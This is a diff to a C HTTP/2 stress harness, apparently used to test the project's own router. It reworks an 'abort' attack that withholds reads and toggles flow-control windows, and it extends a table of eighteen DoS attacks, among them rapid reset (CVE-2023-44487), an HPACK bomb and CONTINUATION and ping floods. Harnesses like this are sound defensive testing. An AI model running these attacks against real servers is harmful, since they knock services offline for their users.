@@ -138,15 +138,22 @@ static void run_made_you_reset(struct attacker *attacker)
 
 /* ---- the abort of issue #1951 ------------------------------------------------------------------------------------- */
 
-/* Less than is asked for meanwhile: the router's write stays unfinished, with the ends of many answers in it. */
-static void read_little(int fd)
+/* Waits for so much. */
+static void read_some(int fd, size_t bytes)
 {
     static __thread uint8_t space[65536];
-    for (unsigned i = 0; i < 10; i++)
-        if (recv(fd, space, sizeof(space), MSG_DONTWAIT) <= 0)
+    struct pollfd poller = {.fd = fd, .events = POLLIN};
+    while (bytes > 0 && poll(&poller, 1, 300) == 1) {
+        ssize_t got = recv(fd, space, bytes < sizeof(space) ? bytes : sizeof(space), 0);
+        if (got <= 0)
             return;
+        bytes -= (size_t)got;
+    }
 }
 
+/* Asks for more than it reads. Whenever the router's socket has room again, it writes 80 KB, which in the small segments of this
+ * connection need more than that room: the write stays unfinished, with the ends of some answers in it. Their windows are closed
+ * and opened meanwhile. */
 static void ask_for_more_than_fits(struct attacker *attacker, int fd)
 {
     struct kv_buf out = {0};
@@ -155,18 +162,17 @@ static void ask_for_more_than_fits(struct attacker *attacker, int fd)
     hello(&out);
     frame32(&out, WINDOW_UPDATE, 0, 1u << 30);
     for (unsigned round = 0; round < 100 && open; round++) {
-        for (unsigned i = 0; i < (round == 0 ? 100 : 15); i++, stream += 2)
+        for (unsigned i = 0; i < (round == 0 ? BURST : 2); i++, stream += 2)
             request(&out, "GET", "/" ATTACK_KEY_FRAME, END_STREAM | END_HEADERS, stream);
         push(attacker, fd, &out, true);
         usleep(round == 0 ? 50000 : 5000);
+        read_some(fd, ATTACK_FRAME_BYTES);
         window_setting(&out, 0);
         window_setting(&out, 65535);
         for (uint32_t id = stream > 200 ? stream - 200 : 1; id < stream && attacker->index % 2 == 0; id += 2)
             frame32(&out, WINDOW_UPDATE, id, 1);
         attacker->units += 80;
         open = push(attacker, fd, &out, true);
-        usleep(2000);
-        read_little(fd);
     }
     kv_buf_free(&out);
 }
@@ -174,7 +180,7 @@ static void ask_for_more_than_fits(struct attacker *attacker, int fd)
 static void run_abort(struct attacker *attacker)
 {
     while (is_time_left(attacker)) {
-        int fd = open_socket(attacker, 32768);
+        int fd = open_socket(attacker, 1);
         if (fd < 0)
             continue;
         ask_for_more_than_fits(attacker, fd);
@@ -517,23 +523,23 @@ static void run_fuzz(struct attacker *attacker)
 /* ---- the table ---------------------------------------------------------------------------------------------------- */
 
 const struct attack attacks[] = {
-    {"abort", "windows opened on streams that are written out (#1951)", 2, run_abort},
-    {"rapid-reset", "requests that are reset at once (CVE-2023-44487)", 2, run_rapid_reset},
-    {"made-you-reset", "requests that make the server reset (CVE-2025-8671)", 2, run_made_you_reset},
-    {"header-bomb", "400 KB of one-byte header fields (HPACK bomb)", 2, run_header_bomb},
-    {"continuations", "empty CONTINUATION frames without end", 2, run_continuations},
-    {"pings-unread", "PINGs whose answers nobody reads (CVE-2019-9512)", 2, run_pings_unread},
-    {"settings-unread", "SETTINGS whose answers nobody reads (CVE-2019-9515)", 2, run_settings_unread},
-    {"starvation", "small frames as fast as they go (read starvation)", 2, run_starvation},
-    {"unknown-frames", "frames of unknown types (stderr flood)", 2, run_unknown_frames},
-    {"window0", "200 x 100 answers with closed windows", 1, run_window0},
-    {"unread", "200 x 100 answers that stay in the socket", 1, run_unread},
-    {"slow-headers", "2,000 headers of two bytes a second", 1, run_slow_headers},
-    {"held-uploads", "2,000 x 100 uploads of two bytes a second", 1, run_held_uploads},
-    {"held-headers", "400 x 100 requests with 28 KB of headers, unfinished", 1, run_held_headers},
-    {"bodies", "200 bodies without an end, as fast as they go", 2, run_bodies},
-    {"connections", "8,000 silent connections", 2, run_connections},
-    {"wrong-tokens", "requests with a wrong token as fast as they go", 2, run_wrong_tokens},
-    {"fuzz", "random conversations of mostly valid frames", 2, run_fuzz},
-    {NULL, NULL, 0, NULL},
+    {"abort", "windows opened on streams that are written out (#1951)", 2, run_abort, true},
+    {"rapid-reset", "requests that are reset at once (CVE-2023-44487)", 2, run_rapid_reset, false},
+    {"made-you-reset", "requests that make the server reset (CVE-2025-8671)", 2, run_made_you_reset, false},
+    {"header-bomb", "400 KB of one-byte header fields (HPACK bomb)", 2, run_header_bomb, false},
+    {"continuations", "empty CONTINUATION frames without end", 2, run_continuations, false},
+    {"pings-unread", "PINGs whose answers nobody reads (CVE-2019-9512)", 2, run_pings_unread, false},
+    {"settings-unread", "SETTINGS whose answers nobody reads (CVE-2019-9515)", 2, run_settings_unread, false},
+    {"starvation", "small frames as fast as they go (read starvation)", 2, run_starvation, false},
+    {"unknown-frames", "frames of unknown types (stderr flood)", 2, run_unknown_frames, false},
+    {"window0", "200 x 100 answers with closed windows", 1, run_window0, false},
+    {"unread", "200 x 100 answers that stay in the socket", 1, run_unread, false},
+    {"slow-headers", "2,000 headers of two bytes a second", 1, run_slow_headers, false},
+    {"held-uploads", "2,000 x 100 uploads of two bytes a second", 1, run_held_uploads, false},
+    {"held-headers", "400 x 100 requests with 28 KB of headers, unfinished", 1, run_held_headers, false},
+    {"bodies", "200 bodies without an end, as fast as they go", 2, run_bodies, false},
+    {"connections", "8,000 silent connections", 2, run_connections, false},
+    {"wrong-tokens", "requests with a wrong token as fast as they go", 2, run_wrong_tokens, false},
+    {"fuzz", "random conversations of mostly valid frames", 2, run_fuzz, false},
+    {NULL, NULL, 0, NULL, false},
 };
